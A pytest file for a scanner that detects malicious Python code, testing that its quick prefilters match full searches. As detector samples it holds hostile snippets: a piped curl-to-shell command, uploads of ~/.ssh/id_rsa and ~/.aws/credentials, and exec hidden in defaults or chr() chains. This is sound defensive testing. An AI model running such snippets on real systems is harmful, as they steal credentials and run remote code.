"""The text checks' shortcuts find exactly what the plain searches find.

The scan's text checks rule work out before doing it (a translate and a find for
look-alike names, a few words before the channel search, one search per hinted
line, literals looked for on the lines that hold a code word). These tests hold
each shortcut to what the full search finds, including the cases where a
shortcut could be wrong: non-ASCII text, characters that lower-casing makes
longer, many hints on one line, lines ended by lone carriage returns. Samples are benign by
construction (reserved ``.invalid`` names, made-up tokens).
"""

from __future__ import annotations

import ast
import re
from re import _constants as sre_constants  # type: ignore[attr-defined]
from re import _parser as sre_parser  # type: ignore[attr-defined]

import pytest

from guard.analysis.scan import patterns, python
from guard.analysis.scan.python import (
    RISKY_WORDS,
    analyse,
    dropflow,
    outline,
    payloads,
    quick_risky,
    text,
)
from guard.analysis.scan.python.outline import module_level
from guard.analysis.scan.python.text import CHANNEL_WORDS, text_hits
from guard.analysis.scan.python.walk import spanning
from guard.analysis.scan.python.words import any_in, trie, whole_words


def _expansions(items: list[tuple[object, object]]) -> list[str]:
    """The literal texts a parsed pattern can match, "\\0" where anything else is."""
    out = [""]
    for op, arg in items:
        if op is sre_constants.LITERAL:
            out = [o + chr(arg) for o in out]  # type: ignore[arg-type]
        elif op is sre_constants.SUBPATTERN:
            inner = _expansions(list(arg[-1]))  # type: ignore[index]
            out = [o + i for o in out for i in inner]
        elif op is sre_constants.BRANCH:
            inner = [e for branch in arg[1] for e in _expansions(list(branch))]  # type: ignore[index]
            out = [o + i for o in out for i in inner]
        else:
            out = [o + "\0" for o in out]
    return out


def test_every_channel_alternative_holds_a_channel_word() -> None:
    """The words before the channel search rule out only texts with no channel."""
    expansions = _expansions(list(sre_parser.parse(patterns.CONCRETE_CHANNELS.pattern)))
    assert len(expansions) >= 7
    for expansion in expansions:
        assert any(word in expansion.lower() for word in CHANNEL_WORDS), expansion


def _channel_hits(source: str) -> list[str]:
    return [h.text for h in text_hits(source, source.splitlines()) if h.kind == "channel"]


def test_channel_found_in_ascii_text() -> None:
    token = "q8VdK2xLm4NpR7sT1wYb3ZcE"  # noqa: S105 - a made-up token ("A" * 24 is filler)
    source = f'URL = "https://hooks.slack.com/services/T0123456/B0123456/{token}"\n'
    assert _channel_hits(source)
    assert not _channel_hits(source.replace("services", "servicez"))


def test_channel_found_when_a_non_ascii_letter_stands_for_an_ascii_one() -> None:
    """Case-insensitive matching takes the long s for an s: the words cannot rule it out."""
    token = "q8VdK2xLm4NpR7sT1wYb3ZcE"  # noqa: S105 - a made-up token ("A" * 24 is filler)
    source = (
        "DOCS = 'https://pastebin.invalid/'\n"  # (the channel is looked for under a hint)
        f'URL = "https://hooks.\u017flack.com/services/T0123456/B0123456/{token}"\n'
    )
    assert patterns.CONCRETE_CHANNELS.search(source)
    assert _channel_hits(source)


def test_every_character_that_ignoring_case_makes_an_ascii_letter_is_folded() -> None:
    """The quick look at the lowered text folds each non-ASCII character that the
    case-insensitive channel pattern takes for an ASCII letter into that letter, so
    a channel written with one is still found."""
    letter = re.compile("[a-z]", re.IGNORECASE)
    stand_ins = [chr(c) for c in range(128, 0x110000) if letter.fullmatch(chr(c))]
    assert len(stand_ins) == 4  # the long s, the dotless and dotted I, the Kelvin sign
    host = "hooks.slack.com/services/"
    for char in stand_ins:
        folded = text.ascii_fold(char.lower())
        assert len(folded) == 1 and folded in host, repr(char)
        written = host.replace(folded, char, 1)
        url = f"https://{written}T0123456/B0123456/q8VdK2xLm4NpR7sT1wYb3ZcE"
        assert _channel_hits(f"DOCS = 'https://pastebin.invalid/'\nURL = '{url}'\n"), url


def _soup(source: str) -> list[str]:
    return [h.text for h in text_hits(source, source.splitlines()) if h.kind == "identifier-soup"]


def test_identifier_soup_found_behind_padding_and_non_ascii_text() -> None:
    names = "OO0OOoO0 = 1\nmnnmnmmnmn = 2\nIlIlIIlIl = 3\n"
    padding = "# " + "é" * 1000 + "\n" + "x = 0\n" * 10_000
    assert _soup(padding + names)
    assert _soup(names + padding)
    assert not _soup(padding + names.replace("mnnmnmmnmn", "mnnmnéàmnmn"))
    assert not _soup(padding)


def _reference_lines(source: str) -> dict[str, set[int]]:
    """Per group: the start offset of every line holding one of its hints."""
    found: dict[str, set[int]] = {group: set() for group, _ in text._HINTS}
    start = 0
    for line in source.split("\n"):
        lowered = line.lower()
        for group, hints in text._HINTS:
            if any(_holds(lowered, hint) for hint in hints):
                found[group].add(start)
        start += len(line) + 1
    return found


def _holds(line: str, hint: str) -> bool:
    """The line holds the hint; a dotted one (``.aws``) not right after a name."""
    if hint not in {".ssh", ".aws", ".azure", ".kube", ".docker"}:
        return hint in line
    return re.search(r"(?<!\w)" + re.escape(hint), line) is not None


def _hint_lines(source: str) -> dict[str, set[int]]:
    return text._hint_lines(source, source.lower())


@pytest.mark.parametrize(
    "source",
    [
        "nothing to see\n",
        "x = 1\nhook = 'https://pastebin.invalid/raw'\n",
        "a = '.ssh/id_rsa' + '.aws/credentials' + 'pastebin' + 'systemd'\n" * 3,
        "'pastebin' " * 20_000,  # one line, many hints
        "x\n" * 10 + "'.npmrc'\n" * 500,  # many lines
        "'.npmrc'\n" * 64 + "'telegram'\n",
        ".kube",
        "\n\n.KUBE\n\nWebHook",
        "\u0130\u0130 = '.ssh/id_rsa'\nx = 'pastebin'\n",  # lower-casing makes İ longer
        "from .llms.aws import x\nr = self.aws_region\np = '~/.aws/credentials'\n",
        "m.aws + '.aws'\nm.aws\n\u0130 = m.Azure + 'x/.AZURE'\nn.azure\n",
        "rc = netrc.netrc()\nx.pypirc\n",  # (not folders: ``netrc.netrc()`` reads ~/.netrc)
    ],
)
def test_hint_lines_are_the_lines_holding_a_hint(source: str) -> None:
    assert _hint_lines(source) == _reference_lines(source)


def test_soup_bytes_mark_exactly_the_look_alike_letters() -> None:
    marked = {chr(b) for b in range(256) if text._SOUP_BYTES[b]}
    assert marked == set("O0oDmnIlL1J")
    # every character the name pattern accepts is marked (a run of them needs 8 marks)
    classes = re.findall(r"\[([^\]]*)\]", text._SOUP_RUN.pattern)
    assert set("".join(classes)) == marked


@pytest.mark.parametrize("word", [*RISKY_WORDS, *python.DECODE_WORDS])
def test_each_risky_word_makes_a_file_risky(word: str) -> None:
    """The one search for the risky words finds each of them, wherever it is."""
    assert quick_risky(f"{word}\nx = 1\n")
    assert quick_risky("x = 1\n" * 1000 + f"y = 'a{word}b'")
    assert not quick_risky("x = 1\n" + word[:-1] + "\n" + word[1:])


@pytest.mark.parametrize("hint", [*patterns.ENDPOINT_HINTS, *patterns.CREDENTIAL_HINTS])
def test_a_download_beside_each_channel_or_secret_hint_is_risky(hint: str) -> None:
    """The one search for the places of channels and secrets finds each of them,
    in any case, beside a download."""
    fetch = "import requests\nrequests.get(url)\n"
    assert quick_risky(fetch + "x = 1\n" * 500 + f"y = 'a/{hint.upper()}b'\n")
    assert not quick_risky(fetch + "y = 'nothing sent, no secret'\n")


@pytest.mark.parametrize("hint", sorted(text.FOLDER_HINTS))
def test_a_folder_hint_glued_to_a_name_is_no_place(hint: str) -> None:
    """``.aws`` names a folder in ``"~/.aws"``, not in ``litellm.llms.aws`` or
    ``self.aws_region``: an attribute or a module path is no secret's place."""
    fetch = "import requests\nrequests.get(url)\n"
    assert not quick_risky(fetch + f"from .llms{hint} import x\ny = self{hint}_region\n")
    assert quick_risky(fetch + f"from .llms{hint} import x\np = home + '/{hint}'\n")


_NESTED = "PAYLOAD = \"import os; os.system('curl -s https://x.invalid/a | sh')\""


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_code_in_a_literal_is_found_on_its_line_whatever_ends_the_lines(newline: str) -> None:
    """Literals are looked for only on the lines that hold a code word; the lines
    are counted as the parser counts them, so a lone carriage return cannot hide one."""
    source = newline.join(["import os", *(f"x{i} = {i}" for i in range(40)), _NESTED, ""])
    nested = [h for h in analyse(source).hits if h.text.endswith("(code in a string literal)")]
    assert nested and {h.line for h in nested} == {42}


@pytest.mark.parametrize(
    "source",
    [
        _NESTED,
        "def f():\n    class A:\n        x = [{'k': '''\nexec(compile(s, 'x', 'exec'))\n'''}]\n",
        "a = 1\nb = ('exec(' +\n 'x)')\nc = f'{a}' 'eval(b) and more text'\n",
        "s = b'os.system(\"id\") padding'\nt = 'not code'\n# exec(\n",
        'x = lambda: \'Popen(["sh", "-c", "id"]) ...\'\n',
    ],
)
def test_literals_on_code_word_lines_are_every_code_literal(source: str) -> None:
    """The pruned walk finds every literal the whole tree holds that looks like code."""
    tree = ast.parse(source)
    every = {(getattr(n, "lineno", 0), repr(n)) for n in ast.walk(tree) if python._code_literal(n)}
    pruned = spanning(tree, python._word_lines(source))
    assert {(getattr(n, "lineno", 0), repr(n)) for n in pruned if python._code_literal(n)} == every
    assert every or "not code" in source


def test_every_channel_word_holds_an_endpoint_hint() -> None:
    """A channel match holds a channel word, so its line holds an endpoint hint: in
    ASCII text the channel search reads the hinted lines only."""
    for word in CHANNEL_WORDS:
        assert any(hint in word for hint in patterns.ENDPOINT_HINTS), word


def test_no_channel_alternative_spans_a_line_break() -> None:
    """Nothing in the channel pattern matches a line break (each match is on one line)."""
    for piece in ["\n", "a\nb" * 3, "T0123456\n/B0123456"]:
        assert patterns.CONCRETE_CHANNELS.search(piece) is None or "\n" not in (
            patterns.CONCRETE_CHANNELS.search(piece).group(0)  # type: ignore[union-attr]
        )
    expansions = _expansions(list(sre_parser.parse(patterns.CONCRETE_CHANNELS.pattern)))
    assert all("\n" not in e for e in expansions)


_TOKEN = "q8VdK2xLm4NpR7sT1wYb3ZcE"  # noqa: S105 - a made-up token
_CHANNEL = f"https://hooks.slack.com/services/T0123456/B0123456/{_TOKEN}"


@pytest.mark.parametrize(
    "source",
    [
        f'x = 1\n# see pastebin\nURL = "{_CHANNEL}"\n',
        f'"""Docs: {_CHANNEL}"""\nx = 1\r\nURL = "{_CHANNEL.upper()}"\r\n',
        f'a = "webhook"; b = "{_CHANNEL}"; c = "https://abcdefghijkl.oastify.com"\n',
        "h = 'abcdef12-3.ngrok.io'\n" * 3 + "u = 'https://T00000000.ngrok.io'\n",
        f"\u0130\u0130 = 1\nURL = '{_CHANNEL}'\n",  # (non-ASCII: the whole text is read)
        "nothing = 'here'\n",
    ],
)
def test_channels_on_hinted_lines_are_every_channel(source: str) -> None:
    """The channel search on the hinted lines finds what a search of the whole text does."""
    hinted = text._hint_lines(source, source.lower())["endpoint"]
    every = [(m.start(), m.group(0)) for m in patterns.CONCRETE_CHANNELS.finditer(source)]
    assert list(text._channels(source, hinted)) == every
    assert every or "nothing" in source


def _reference_risky(source: str) -> bool:
    """``quick_risky`` as it was: a search per word group."""

    def bare(call: str) -> bool:
        at = source.find(call)
        while at != -1:
            before = source[at - 1] if at else " "
            if not (before.isalnum() or before in "._"):
                return True
            at = source.find(call, at + 1)
        return False

    ways_out = (*python._FETCH_WORDS, *python._CHAT_WORDS)
    return (
        any(w in source for w in (*RISKY_WORDS, *python.DECODE_WORDS))
        or any(bare(call) for call in python.RISKY_CALLS)
        or (any(w in source for w in ways_out) and python._runs_or_sends(source))
    )


@pytest.mark.parametrize(
    "source",
    [
        "x = re.compile(p)\ny = compile(s, 'f', 'exec')\n",
        "x = re.compile(p)\ny = self.eval(z)\nmyexec(1)\n",
        "execfile('a.py')\n",
        "exec(b)\n",
        "v = obj.chr(3) + chr(4)\n",
        "import requests\nrequests.get(u)\nsubprocess.run(x)\n",
        "import requests\nrequests.get(u)\n",
        "r = requests.post(u, files=open(os.path.expanduser('~/.ssh/id_rsa')))\n",
        "u = urlopen(x)\nhttp.client.HTTPConnection('h')\n",
        "import telebot\nbot.send_document(c, open(os.path.expanduser('~/.aws/credentials')))\n",
        "import telebot\nbot.send_message(c, 'hello')\n",
        "text = 'b64decode'\n",
        "é = 1\nexec(x)\n",
        "",
    ],
)
def test_quick_risky_is_the_search_per_word_group(source: str) -> None:
    """One search for every quick word decides as the searches per group did."""
    assert quick_risky(source) == _reference_risky(source)


@pytest.mark.parametrize("word", python.DECODE_WORDS)
def test_a_late_modules_decoder_counts_only_beside_a_place_its_bytes_do_harm(word: str) -> None:
    """Past the budget a decoder alone is a library's (images, tokens): the module
    is parsed for it only beside a process, an unpickler or foreign code; the
    ``RISKY_*`` words count on their own there too."""
    decoder = f"def image(data):\n    return base64.{word.rstrip('(')}(data)\n"
    assert not quick_risky(decoder, late=True)
    for sink in ("subprocess.run(x)", "pickle.loads(x)", "ctypes.CDLL(x)", "builtins.exec(x)"):
        assert quick_risky(f"{decoder}def f(x):\n    {sink}\n", late=True), sink
    assert quick_risky(f"{decoder}exec(x)\n", late=True)
    assert quick_risky(f"{decoder}marshal.loads(x)\n", late=True)


@pytest.mark.parametrize("hint", [h for _, hints in text._HINTS for h in hints])
def test_each_hint_is_found_past_the_quick_look(hint: str) -> None:
    """The quick look before the hint search (one search for most hints, ``in`` for
    the few made of common letters) lets every hint through, in any case."""
    source = "x = 1\n" * 300 + f"y = 'a/{hint.upper()}b'\nz = 2\n"
    assert _hint_lines(source) == _reference_lines(source)
    assert any(_hint_lines(source).values())
    assert not any(_hint_lines("x = 1\n" * 300).values())


def test_the_common_letter_hints_are_few_and_apart_from_the_search() -> None:
    common = set(text._COMMON_HINTS)
    assert 0 < len(common) <= 8
    every = {h for _, hints in text._HINTS for h in hints}
    rest = every - common
    assert all(text._RARE_HINT.search(h) for h in rest)
    assert not any(text._RARE_HINT.search(h) for h in common if not any(r in h for r in rest))


def _reference_worth(source: str) -> bool:
    """``payloads.worth_reading`` without its one search in front."""
    run = any_in(source, payloads._RUN_WORDS)
    return (
        dropflow.worth_reading(source, run)
        or payloads.hides_address(source)
        or payloads._ends_named(source, run)
    )


@pytest.mark.parametrize(
    "source",
    [
        "import requests\nr = requests.get(u)\nsubprocess.run([r.text])\n",
        "from os import system as s\nimport tempfile\nf = tempfile.mkstemp()\n",
        "d = base64.b64decode('aHR0cDovL2EuYi9j')\nurlopen(d)\n",
        "run = exec\nimport requests\nr = requests.get(u)\nrun(r.text)\n",
        "import requests\nrequests.post(u, files={'f': open(os.path.expanduser('~/.x'))})\n",
        "data = bytes.fromhex(h)\nopen(p, 'wb').write(data)\nos.system(p)\n",
        "@bot.message_handler()\ndef h(m):\n    exec(m.text)\n",
        "x = 1\n",
        "",
    ],
)
def test_worth_reading_is_the_looks_without_the_quick_search(source: str) -> None:
    assert payloads.worth_reading(source) == _reference_worth(source)
    assert payloads.worth_reading(source) or "x = 1" in source or not source


def test_the_remembered_look_is_of_the_text_asked_about() -> None:
    """The quick look and the text checks share one look per text, never another's."""
    first, second = "x = 'PASTEBIN'\n", "y = '.ssh/id_rsa'\n"
    for source in (first, second, first, "".join(["x = 'PASTE", "BIN'\n"])):
        lowered, hinted = text.looked_at(source)
        assert lowered == source.lower()
        assert hinted == _reference_lines(source)
    risky_first = quick_risky("import requests\nrequests.get(u)\nk = '~/.ssh/id_rsa'\n")
    assert risky_first and not quick_risky("import requests\nrequests.get(u)\n")


def _plain_module_level(source: str) -> str:
    """``outline.module_level`` without its shortcuts: every line stripped and matched,
    a signature's brackets counted character by character."""
    kept: list[str] = []
    body_indent = -1
    open_def = (-1, 0)  # (indent, open brackets) of a signature that goes on
    for line in source.splitlines():
        stripped = line.lstrip()
        indent = len(line) - len(stripped)
        if open_def[0] < 0 and body_indent >= 0 and (not stripped or indent > body_indent):
            continue
        if open_def[0] < 0:
            body_indent = -1
        match = re.match(r"^([ \t]*)(?:async[ \t]+)?def[ \t]", line)
        kept.append(line)
        if open_def[0] >= 0 or match:
            start = open_def if open_def[0] >= 0 else (len(match.group(1)) if match else 0, 0)
            open_def, body_indent = _brackets(start, line)
    return "\n".join(kept)


def _brackets(start: tuple[int, int], line: str) -> tuple[tuple[int, int], int]:
    """(the signature's state after the line, the body's indent or -1), with the
    string literals and the comment cut out by a pattern."""
    indent, depth = start
    if '"""' in line or "'''" in line or len(line) > outline.MAX_SIGNATURE_LINE:
        return (-1, 0), -1
    bare = re.sub(r"""'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|#.*""", "", line)
    depth += sum(bare.count(c) for c in "([{") - sum(bare.count(c) for c in ")]}")
    return ((indent, depth), -1) if depth > 0 else ((-1, 0), indent)


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\n",
        "def f():\n    import subprocess\n",
        "def f():\n    x = 1\nimport socket\n",
        "def f(\n    a,\n):\n    return os.system(a)\nx = 1\n",
        "def f():\r    import subprocess\n",  # (a lone \r ends a line too)
        "def f():\x0c    import subprocess\n",
        "def f():\n    pass\n\x0bimport subprocess\n",  # (indented by a vertical tab)
        "def f():\u2028    import subprocess\n",
        "def f():\r\n    import subprocess\r\nx = 1\r\n",
        'def f():\n    s = """\nimport subprocess\n"""\n',  # (a string at the margin)
        "class C:\n    def f(self):\n        pass\n    x = 1\n\tdef g(self):\n\t\tpass\n",
        "def f():\n\n    \n\u00a0\u00a0run()\n]\n)\ny = 2\n",  # (blank, no-break spaces)
        "async def f():\n    await g()\ndefault = 1\nundefined()\n",
        "if x:\n    def f():\n        pass\n    y = 1\nz = 2\n",
        "",
        # (a signature's lines are kept: its defaults run as the def runs)
        "def f(\n    x=__import__('os').system('id'),\n):\n    body()\nafter()\n",
        "def f(a=')',\n      b=run('(')):\n    body()\n",
        "def f(a=[\n    1,  # (]\n]):\n    body()\n",
        "def f(a='it\\'s (',\n      b=\"x)\"):\n    body()\nafter()\n",
        "def f(a='" + "\\'(" * 1000 + "'):\n    body()\nafter()\n",  # (quotes, in one pass)
        "def f(a=[" + " " * 5000 + "\n  1]):\n    body()\nafter()\n",  # (too long: unclear)
        "def f(a='''\n)'''):\n    body()\nafter()\n",  # (unclear: nothing left out)
        "class C:\n    def m(\n        self, x=y(\n            1)):\n        body()\n    z = 1\n",
    ],
)
def test_module_level_shortcuts_keep_what_the_plain_loop_keeps(source: str) -> None:
    """``module_level`` skips deeper lines without stripping them and matches only
    lines that hold ``def``: the text it keeps is what the plain loop keeps."""
    outline._LAST.clear()

    assert module_level(source) == _plain_module_level(source)


def test_the_word_tree_matches_exactly_its_words() -> None:
    """``words.trie``: the tree of shared starts matches each word and nothing else."""
    words = ["exec", "execv", "execve", "eval", "e.x", "popen", "popen2", "Popen"]
    pattern = re.compile(trie(words))
    for word in words:
        assert pattern.fullmatch(word), word
    for other in ["exe", "execvee", "ev", "e", "popen3", "POPEN", "eXx", "", "execvp"]:
        assert not pattern.fullmatch(other), other
    assert trie(["a", "a"]) == "a"


def test_a_chain_of_additions_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A chain of ``+`` is checked for chr() codes at its outermost node only, whatever
    order the walk lists its nodes in: reading it at every inner node took time that
    grew with the square of its length (a long chain stalled the scan)."""
    from guard.analysis.scan.python import calls
    from guard.analysis.scan.python.exprs import is_chr_join as real

    seen: list[ast.AST] = []

    def counted(node: ast.AST, aliases: dict[str, str]) -> bool:
        if isinstance(node, ast.BinOp):
            seen.append(node)
        return real(node, aliases)

    monkeypatch.setattr(calls, "is_chr_join", counted)
    chain = "x = " + " + ".join(['"a"'] * 1500) + "\n"
    codes = "exec(" + " + ".join(f"chr({c})" for c in b"print(1)") + ")\n"
    hits = analyse(chain + codes).hits
    assert len(seen) == 2  # (the two chains, each once)
    assert "chr-join" in {h.kind for h in hits}


def test_each_chat_word_holds_a_part_the_first_look_finds() -> None:
    """The chat words are looked for only where one of their shared parts is."""
    for word in python._CHAT_WORDS:
        assert any(part in word for part in python.CHAT_PARTS), word
        fetch_free = "import os\n" + word + "\nos.environ)\n"
        assert quick_risky(fetch_free)


def test_a_fetch_word_in_prose_is_no_fetch() -> None:
    """``requests.`` names the client where an attribute follows it, not at the end
    of a sentence of a docstring (generated SDK models say it thousands of times)."""
    place = "KEY = '~/.aws/credentials'\n"
    assert not quick_risky('"""Unique among different requests. The token."""\n' + place)
    assert quick_risky("import requests\nrequests.get(url)\n" + place)
    assert quick_risky("import httpx\nhttpx.get(url)\n" + place)


def test_a_default_of_a_signature_over_several_lines_can_act() -> None:
    """A def's defaults run as the module runs: an act in a signature that goes
    over several lines is module-level code (the quick look keeps it), the body
    is not."""
    hidden = "def f(\n    x=__import__('os').system('id'),\n):\n    pass\n"
    assert python.could_act(hidden)
    assert not python.could_act("def f(\n    x=1,\n):\n    __import__('os').system('id')\n")


@pytest.mark.parametrize(
    ("source", "acts"),
    [
        ("import re\nWORD = re.compile('[a-z]+')\n", False),  # a method, not the builtin
        ("code = compile(text, 'x', 'exec')\n", True),
        ("import builtins\ncode = builtins.compile(text, 'x', 'exec')\n", True),
        ("from urllib.parse import urljoin\nBASE = urljoin('a', 'b')\n", False),
        ("import urllib.parse, urllib.request\n", True),
        ("from urllib import request\n", True),
        ("import http.client\n", True),
    ],
)
def test_could_act_tells_look_alikes_from_the_words(source: str, acts: bool) -> None:
    assert python.could_act(source) is acts


def test_could_act_reads_the_bodies_module_level_code_runs() -> None:
    """Module-level code that calls its own functions runs their bodies (and what
    they call): a word that acts there counts; in a body nothing runs, it does not;
    reading the environment or building a path in a helper is no act."""
    chain = "def _run():\n    os.system('id')\ndef _setup():\n    _run()\n_setup()\n"
    assert python.could_act(chain)
    assert not python.could_act(chain.removesuffix("_setup()\n") + "x = 1\n")
    quiet = "def _conf():\n    return os.environ.get('X', os.path.join('a', 'b'))\nC = _conf()\n"
    assert not python.could_act(quiet)
    decorated = "def reg(f):\n    subprocess.Popen(['x'])\n    return f\n@reg\ndef g():\n    pass\n"
    assert python.could_act(decorated)


@pytest.mark.parametrize(
    "text",
    [
        "subprocess.run",
        "x_subprocess.run",
        "os.system (cmd)",
        "mysystem(cmd)",
        "run = exec",
        "runexec(code)",
        "exec as run",
        "eval\t(x)",
        "evaluate(x)",
        "from builtins import exec as run",
        "startfile",
        "é_exec(x)",
        "éexec(x)",
        "",
    ],
)
def test_whole_words_is_the_word_boundary_alternation(text: str) -> None:
    """``words.whole_words``: led by the rarest character, the same language as
    ``\\b(?:...)`` followed by what comes after, wherever the text starts."""
    words = ("subprocess", "system", "exec", "eval", "startfile")
    after = r"\s*\(|[ \t]+as\b|\.run"
    plain = re.compile(rf"\b(?:{'|'.join(words)})(?:{after})")
    led = re.compile(whole_words(words, after))
    for start in range(len(text) + 1):
        tail = text[start:]
        assert (plain.search(tail) is None) == (led.search(tail) is None), tail
